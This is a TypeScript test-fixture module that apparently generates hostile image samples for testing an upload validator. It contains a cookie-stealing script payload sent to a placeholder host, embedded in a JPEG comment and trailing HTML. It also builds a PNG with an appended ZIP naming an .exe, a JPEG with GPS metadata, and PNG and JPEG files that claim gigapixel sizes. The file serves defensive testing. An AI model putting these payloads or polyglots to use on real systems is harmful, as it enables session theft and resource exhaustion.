import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";
import { ktpJpeg, ktpPng } from "../sample-files.ts";

export const script = "<script>document.location='https://contoh.invalid/'+document.cookie</script>";

/** An end of a ZIP file that unpackers would find behind the picture. */
const zipTail = Buffer.concat([
  Buffer.from("PK\x03\x04muatan.exe", "latin1"),
  Buffer.from("PK\x05\x06".padEnd(22, "\0"), "latin1"),
]);

export async function pngWithZipTail(): Promise<Buffer> {
  return Buffer.concat([await ktpPng(), zipTail]);
}

/** A JPEG whose comment segment is a script, with HTML behind its end. */
export async function jpegWithScript(): Promise<Buffer> {
  const jpeg = await ktpJpeg();
  const text = Buffer.from(script, "latin1");
  const comment = Buffer.concat([Buffer.of(0xff, 0xfe, 0, text.length + 2), text]);
  return Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2), Buffer.from(`<html>${script}</html>`)]);
}

/** A picture taken with the telephone upright, lying on its side in the file, with a position in Jakarta. */
export async function jpegWithPosition(): Promise<Buffer> {
  const upright = sharp({ create: { width: 400, height: 300, channels: 3, background: "#3366aa" } });
  return upright
    .withExif({
      IFD0: { Make: "Kamera Contoh", Orientation: "6" },
      IFD3: {
        GPSLatitudeRef: "S",
        GPSLatitude: "6/1 10/1 30/1",
        GPSLongitudeRef: "E",
        GPSLongitude: "106/1 49/1 38/1",
      },
    })
    .withMetadata({ orientation: 6 })
    .jpeg()
    .toBuffer();
}

/** A PNG that claims its size in the header and holds next to nothing. */
export function pngFlood(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8);
  const chunks = [
    chunk("IHDR", header),
    chunk("IDAT", deflateSync(Buffer.alloc(1024 * 1024))),
    chunk("IEND", Buffer.alloc(0)),
  ];
  return Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), ...chunks]);
}

function chunk(kind: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(kind, "latin1"), data]);
  const frame = Buffer.alloc(8 + body.length);
  frame.writeUInt32BE(data.length, 0);
  body.copy(frame, 4);
  frame.writeUInt32BE(crc32(body), 4 + body.length);
  return frame;
}

/** A small JPEG whose frame header says 65 500 by 65 500, which is 4.3 gigapixels. */
export async function jpegFlood(): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 16, height: 16, channels: 3, background: "#ffffff" } })
    .jpeg()
    .toBuffer();
  const frame = jpeg.indexOf(Buffer.of(0xff, 0xc0));
  jpeg.writeUInt16BE(65_500, frame + 5);
  jpeg.writeUInt16BE(65_500, frame + 7);
  return jpeg;
}
